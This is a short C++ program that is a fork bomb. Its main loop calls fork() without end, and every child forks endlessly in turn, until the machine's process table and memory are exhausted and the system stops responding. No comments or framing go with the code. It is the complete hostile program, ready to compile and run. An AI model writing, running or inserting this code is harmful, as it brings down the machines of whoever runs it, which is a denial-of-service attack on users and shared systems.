#include <unistd.h>
#include <vector>
#include <cstdio>
int main() {
    std::vector<pid_t> kids;
    while (true) {
        pid_t p = fork();
        if (p == 0) { while (true) fork(); }
        if (p > 0) kids.push_back(p);
    }
}
